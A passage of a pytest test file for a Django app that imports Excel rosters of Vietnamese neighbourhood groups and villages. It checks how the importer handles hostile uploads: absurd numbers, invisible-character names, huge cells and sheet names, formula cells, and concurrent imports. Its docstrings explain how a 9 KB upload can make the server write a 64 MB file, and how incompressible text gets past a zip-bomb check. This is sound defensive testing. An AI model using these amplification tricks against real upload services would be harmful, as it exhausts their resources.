        ["02647", "Tổ dân phố Kim Tân", "", "Người Tốt", "Thành viên", "", "", ""],
    ]
    data = formulas_as_text(workbook(rows))
    upload(client, data)
    done = client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"}, follow=True)
    assert "Các dòng lỗi chưa được nhập" in done.content.decode()
    download = client.get(ROSTER_REJECTED)
    assert download.status_code == 200
    assert not [c.coordinate for c in _cells(download.content) if c.data_type == "f"]


def test_dates_far_in_the_past_and_absurd_numbers_in_a_roster(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [
        HEADER,
        [
            "02647",
            "Tổ dân phố Kim Tân",
            "",
            "Người Một",
            "Thành viên",
            "0977000001",
            datetime.datetime(1000, 1, 1),
        ],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Hai", "Thành viên", 1e308, -1e308],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Ba", "Thành viên", "NaN", "NaN"],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Bốn", "Thành viên", 9.99e15, 1e20],
        [1e308, 1e308, 1e308, "Người Năm", 1e308, "", datetime.date(1, 1, 1)],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Sáu", "Thành viên", "", datetime.time(23, 59)],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Bảy", "Thành viên", "", datetime.timedelta(days=99999)],
        ["02647", "Tổ dân phố Kim Tân", "", "Người Tám", "Thành viên", "", -1],
    ]
    preview = no_server_error(upload(client, workbook(rows)))
    result = preview.context["result"]
    assert {e.row for e in result.errors} >= {2, 3, 4, 5, 6}
    assert_no_raw_words(preview)
    assert no_server_error(client.get(ROSTER_REJECTED)).status_code == 200
    no_server_error(client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"}))
    for member in Member.objects.filter(full_name__startswith="Người"):
        assert member.birth_year is None or 1900 <= member.birth_year <= 2030


@pytest.mark.parametrize("households", [1e308, 1e10, 3_000_000_000, "99999999999999999999999", 2**63])
def test_absurd_household_counts_are_row_errors_not_a_failed_write(tree, rosters, client_for, households):
    client = client_for("commune_officer")
    upload(
        client,
        workbook([VILLAGE_HEADER, ["02647", "Tổ Đông Dân", households], ["02647", "Tổ Tốt", 5]]),
        VILLAGES,
    )
    response = no_server_error(client.post(VILLAGES_CONFIRM, {"skip_bad_rows": "1"}))
    assert response.status_code == 302
    assert not Unit.objects.filter(name="Tổ Đông Dân").exists()
    assert Unit.objects.filter(name="Tổ Tốt").exists()


def test_absurd_household_count_of_an_existing_village_is_a_row_error(tree, rosters, client_for):
    client = client_for("commune_officer")
    upload(client, workbook([VILLAGE_HEADER, ["02647", "Tổ dân phố Kim Tân", 1e12]]), VILLAGES)
    no_server_error(client.post(VILLAGES_CONFIRM, {"skip_bad_rows": "1"}))
    tree.kim_tan.refresh_from_db()
    assert tree.kim_tan.households == 280


BLANK_NAMES = [" " * 40, "\u00a0\u00a0", "\u3000", "\u200b\u200b", "\u2800", "\t", "\ufeff", "ㅤ"]


@pytest.mark.parametrize("name", BLANK_NAMES, ids=range(len(BLANK_NAMES)))
def test_a_name_of_only_spaces_creates_nobody(tree, rosters, client_for, name):
    client = client_for("commune_officer")
    before = Member.objects.count()
    rows = [HEADER, ["02647", "Tổ dân phố Kim Tân", "", name, "Thành viên", "0977000123", 1990]]
    preview = no_server_error(upload(client, workbook(rows)))
    assert "result" not in preview.context or not preview.context["result"].to_create
    client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"})
    assert Member.objects.count() == before


@pytest.mark.parametrize("name", BLANK_NAMES, ids=range(len(BLANK_NAMES)))
def test_a_village_name_of_only_spaces_creates_no_village(tree, rosters, client_for, name):
    client = client_for("commune_officer")
    before = Unit.objects.filter(kind=UnitKind.VILLAGE).count()
    no_server_error(upload(client, workbook([VILLAGE_HEADER, ["02647", name, 5]]), VILLAGES))
    client.post(VILLAGES_CONFIRM, {"skip_bad_rows": "1"})
    upload(client, workbook([HEADER, ["02647", name, "", "Người Có Tên", "Thành viên"]]))
    client.post(ROSTER, {"create_villages": "1"})
    client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"})
    assert Unit.objects.filter(kind=UnitKind.VILLAGE).count() == before


LONG = "Ý" * 32767


def _random_text(seed: int, size: int = 32767) -> str:
    """A cell of Vietnamese letters that does not compress away (a zip-bomb check cannot refuse it)."""
    import random

    letters = "aăâbcdđeêghiklmnoôơpqrstuưvxyáàảãạ"
    chance = random.Random(seed)
    return "".join(chance.choice(letters) for _n in range(size))


def test_long_cells_in_rejected_rows_do_not_make_a_huge_rejected_rows_file(
    tree, rosters, client_for, settings
):
    """A 9 KB upload whose 1,200 cells all show one 32,767-character shared string unpacks to a few hundred
    kilobytes, but its rejected-rows file (made at every preview, downloaded or not) unpacks to 64 MB: the
    server writes what the upload limits refuse to read."""
    settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 20 * 1024 * 1024
    client = client_for("commune_officer")
    rows = [
        [*HEADER, *[f"Ghi chú {n}" for n in range(40)]],
        *[["99999", "Thôn Lạ", "", "Người Lạ", "", "", "", *[LONG] * 40] for _n in range(30)],
    ]
    data = shared_strings(workbook(rows))
    assert len(data) < 20_000
    preview = no_server_error(upload(client, data))
    assert len(preview.context["result"].errors) == 30
    download = client.get(ROSTER_REJECTED)
    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
        unpacked = sum(info.file_size for info in archive.infolist())
    assert unpacked <= settings.IMPORT_MAX_UNCOMPRESSED_BYTES, unpacked


def test_long_ignored_headers_keep_the_preview_small(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [
        [*HEADER, *[_random_text(n) for n in range(40)]],
        ["02647", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa", "Thành viên", "", "", *["x"] * 40],
    ]
    data = shared_strings(workbook(rows))
    preview = no_server_error(upload(client, data))
    assert "result" in preview.context
    assert len(preview.content) < 1_000_000, len(preview.content)


def test_long_headers_keep_the_column_choice_page_and_the_session_small(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [[_random_text(n) for n in range(55)], ["x"] * 55]
    data = shared_strings(workbook(rows))
    assert len(data) < 2_000_000
    asked = no_server_error(upload(client, data))
    assert "choose" in asked.context
    assert len(asked.content) < 1_000_000, len(asked.content)
    assert len(str(client.session.get(ROSTER_KEY))) < 100_000
    again = no_server_error(
        client.post(ROSTER, {"choose": "1", "col_full_name": "A", "col_village_name": "B"})
    )
    assert len(again.content) < 1_000_000, len(again.content)


def test_a_remembered_header_of_32767_characters_is_stored_cut(tree, rosters, client_for):
    client = client_for("commune_officer")
    rows = [["Mã xã", "Thôn", LONG], ["02647", "Tổ dân phố Kim Tân", "Đỗ Thị Hoa"]]
    upload(client, workbook(rows))
    response = no_server_error(client.post(ROSTER, {"choose": "1", "col_full_name": "C"}))
    assert [r.full_name for r in response.context["result"].to_create] == ["Đỗ Thị Hoa"]
    assert len(ColumnChoice.objects.get().header) <= 200
    # The next file with the same header is read straight away.
    again = upload(client, workbook(rows))
    assert "choose" not in again.context


def test_a_sheet_name_of_thousands_of_characters_is_cut_on_the_page(tree, rosters, client_for):
    client = client_for("commune_officer")
    data = workbook([HEADER, ["99999", "Tổ dân phố Kim Tân", "", "Đỗ Thị Hoa"]], title="Ten")
    long_name = b'name="' + ("Ư" * 5000).encode() + b'"'
    data = patched(data, {"xl/workbook.xml": lambda xml: xml.replace(b'name="Ten"', long_name)})
    preview = no_server_error(upload(client, data))
    assert "Ư" * 200 not in preview.content.decode()
    assert no_server_error(client.get(ROSTER_REJECTED)).status_code == 200


# --- words shown ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["admin", "province_officer", "commune_officer"])
def test_import_pages_show_no_english_or_raw_field_names(tree, rosters, client_for, who):
    client = client_for(who)
    shown = [client.get(ROSTER), client.get(VILLAGES)]
    shown.append(client.post(ROSTER, {}))  # no file
    shown.append(client.post(VILLAGES, {"file": SimpleUploadedFile("a.xlsx", b"")}))
    rows = [
        HEADER + ["Thành phần", "Điện thoại thông minh", "Ghi chú"],
        [
            "02647",
            "Tổ dân phố Kim Tân",
            "",
            "Người Một",
            "Trưởng nhóm",
            "12",
            1990,
            "Hội gì đó",
            "có lẽ",
            "x",
        ],
        ["02647", "Tổ dân phố Mới Lập", "", "Người Hai", "Thành viên", "", "", "", "", ""],
        ["00721", "Thôn Lũng Cú", "", "Người Ba", "Thành viên", "", "", "", "", ""],
        [
            "02647",
            "Tổ dân phố Kim Tân",
            "Tổ CNS Khác",
            "Người Bốn",
            "Tổ trưởng",
            "",
            "",
            "Khác lạ",
            "không",
            "",
        ],
    ]
    shown.append(upload(client, workbook(rows)))
    shown.append(client.post(ROSTER, {"create_villages": "1"}))
    shown.append(client.post(ROSTER_CONFIRM, {"skip_bad_rows": "1"}, follow=True))
    shown.append(client.get(f"{ROSTER}?xong=1"))
    shown.append(upload(client, workbook([["Mã xã", "Nơi ở", "Người"], ["02647", "A", "B"]])))
    shown.append(client.post(ROSTER, {"choose": "1", "col_village_name": "B"}))
    shown.append(client.post(ROSTER_CONFIRM, {"cancel": "1"}, follow=True))
    shown.append(
        upload(
            client, workbook([VILLAGE_HEADER, ["02647", "Tổ Mới", "nhiều"], ["02647", "Tổ Hai", 3]]), VILLAGES
        )
    )
    shown.append(client.post(VILLAGES_CONFIRM, follow=True))
    shown.append(client.post(VILLAGES, {"choose": "1"}, follow=True))
    for response in shown:
        assert response.status_code == 200
        assert_no_raw_words(response)


# --- two imports creating the same village at the same moment ---------------------------------------------------


def _together(*jobs):
    barrier = threading.Barrier(len(jobs))
    outcomes = [None] * len(jobs)

    def run(index, job):
        try:
            barrier.wait()
            outcomes[index] = job()
        except Exception as exc:  # reported by the test
            outcomes[index] = exc
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run, args=(i, job)) for i, job in enumerate(jobs)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    return outcomes


@threads_need_postgresql
def test_two_imports_creating_the_same_missing_village_at_once_create_it_once(transactional_db, tree, people):
    clients = []
    for n, user in enumerate([people.commune_officer, people.province_officer, people.admin]):
        client = Client()
        client.force_login(user)
        rows = [
            HEADER,
            ["02647", "Tổ dân phố Bắc Cường", "", f"Người Song Song {n}", "Thành viên", f"097700010{n}"],
        ]
        upload(client, workbook(rows))
        preview = client.post(ROSTER, {"create_villages": "1"})
        assert [r.full_name for r in preview.context["result"].to_create] == [f"Người Song Song {n}"]
        clients.append(client)
    outcomes = _together(*[lambda c=c: c.post(ROSTER_CONFIRM).status_code for c in clients])
    assert outcomes == [302, 302, 302]
    villages = Unit.objects.filter(parent=tree.phuong_lao_cai, name="Tổ dân phố Bắc Cường")
    assert villages.count() == 1
    members = Member.objects.filter(full_name__startswith="Người Song Song")
    assert members.count() == 3
    assert {m.team_id for m in members} == {members[0].team_id}
    codes = list(Unit.objects.filter(parent=tree.phuong_lao_cai).values_list("code", flat=True))
    assert len(codes) == len(set(codes))


@threads_need_postgresql
def test_a_village_import_and_a_roster_import_creating_the_same_village_at_once(
    transactional_db, tree, people
):
    villages = Client()
    villages.force_login(people.province_officer)
    upload(villages, workbook([VILLAGE_HEADER, ["02647", "Tổ dân phố Bắc Cường", 50]]), VILLAGES)
    roster = Client()
    roster.force_login(people.commune_officer)
    upload(roster, workbook([HEADER, ["02647", "Tổ dân phố Bắc Cường", "", "Người Song Song", "Thành viên"]]))
    roster.post(ROSTER, {"create_villages": "1"})
    outcomes = _together(
        lambda: villages.post(VILLAGES_CONFIRM).status_code, lambda: roster.post(ROSTER_CONFIRM).status_code
    )
    assert outcomes == [302, 302]
    assert Unit.objects.filter(parent=tree.phuong_lao_cai, name="Tổ dân phố Bắc Cường").count() == 1
    codes = list(Unit.objects.filter(parent=tree.phuong_lao_cai).values_list("code", flat=True))
    assert len(codes) == len(set(codes))
